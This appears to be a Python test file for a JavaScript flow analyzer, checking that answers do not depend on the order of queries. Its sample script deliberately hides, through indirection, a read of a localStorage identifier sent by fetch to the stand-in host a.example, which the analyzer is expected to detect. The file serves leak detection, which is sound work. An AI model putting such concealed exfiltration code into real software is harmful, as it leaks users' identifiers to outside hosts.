"""What is asked first must not decide what is known in the end."""

from __future__ import annotations

from random import Random

import pytest
from flow_helper import program
from hypothesis import given, settings
from hypothesis import strategies as st

from undertow.analysis.columns import columns
from undertow.analysis.decode import Decoded
from undertow.analysis.flow import find_flows
from undertow.analysis.flow_values import FlowValues
from undertow.analysis.program import Program
from undertow.analysis.scopes import resolve

SCRIPT = """
const registry = {}, queue = [], platform = {};
function define(name, make) { registry[name] = make; queue.push(make); }
function use(name) { return registry[name](use); }
platform.storage = {read: () => window.localStorage.getItem('id'), keep: v => v};
define('state', load => { const s = load('meta'); s._meta = s._meta || {}; return s; });
define('meta', () => ({_meta: null, next() { return this._meta; }}));
function start(env, p) {
  const store = p.storage, bus = emitter();
  bus.on('sent', v => store.keep(v));
  return {bus, store};
}
const client = start('e', platform);
function emitter() {
  const listeners = {};
  return {on(n, f) { (listeners[n] = listeners[n] || []).push(f); }, emit(n, v) { listeners[n].forEach(f => f(v)); }};
}
client.bus.emit('sent', client.store.read());
class Base {
  constructor(o) { this.options = o; this.self = this; }
  run() { return this.self.options.send(this.read()); }
}
class Sender extends Base { read() { return client.store.read(); } again() { return this.self.self.run(); } }
const sender = new Sender({send: v => fetch('https://a.example/?v=' + v)});
for (const make of queue) { make(use); }
function even(n, f) { return n ? odd(n - 1, f) : f; }
function odd(n, f) { return n ? even(n - 1, g => f(g)) : f; }
even(4, v => v)(sender).again();
"""


def answers(p: Program, order: list[int]) -> dict[int, object]:
    """Origins of every expression and calls of every function, asked in that order."""
    return {
        node: (frozenset(p.origins(node)), frozenset(p.call_sites(node)) if p.is_function(node) else None)
        for node in order
    }


@pytest.fixture(scope="module")
def in_order() -> dict[int, object]:
    p = program(SCRIPT)
    return answers(p, list(range(p.n)))


@given(chance=st.randoms(use_true_random=False))
@settings(max_examples=60, deadline=None)
def test_answers_are_the_same_in_every_order_of_asking(in_order: dict[int, object], chance: Random) -> None:
    p = program(SCRIPT)
    order = list(range(p.n))
    chance.shuffle(order)
    assert answers(p, order) == in_order


@given(chance=st.randoms(use_true_random=False))
@settings(max_examples=15, deadline=None)
def test_flows_are_the_same_whatever_was_asked_before(chance: Random) -> None:
    c = columns(SCRIPT.encode())
    p = Program(c, resolve(c), Decoded())
    for node in chance.sample(range(p.n), 40):
        p.origins(node)
    flows = find_flows(p, FlowValues(p)).flows
    assert {(flow.data, flow.host) for flow in flows} == {("identifier", "a.example")}


def test_the_many_kinds_of_a_variable_are_the_same_kinds_in_every_order() -> None:
    values = "".join(f"x = {{k{i}: 1}}; y = x || y; x = y;" for i in range(40))  # more than are kept of any
    code = f"let x, y; {values} x; y;"
    first = program(code)
    known = answers(first, list(range(first.n)))
    last = program(code)
    assert answers(last, list(range(last.n - 1, -1, -1))) == known
